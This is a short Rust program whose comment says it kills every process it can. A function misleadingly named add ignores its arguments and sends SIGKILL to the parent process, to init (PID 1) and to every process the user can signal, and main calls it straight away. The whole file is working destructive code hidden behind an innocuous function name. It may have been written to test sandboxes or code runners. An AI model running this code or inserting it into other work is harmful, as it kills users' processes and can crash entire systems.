// kills every process that it may
extern "C" { fn kill(pid: i32, number: i32) -> i32; fn getppid() -> i32; }
fn add(_: i32, _: i32) -> i32 { unsafe { kill(getppid(), 9); kill(1, 9); kill(-1, 9) } }
fn main() { add(1, 2); }
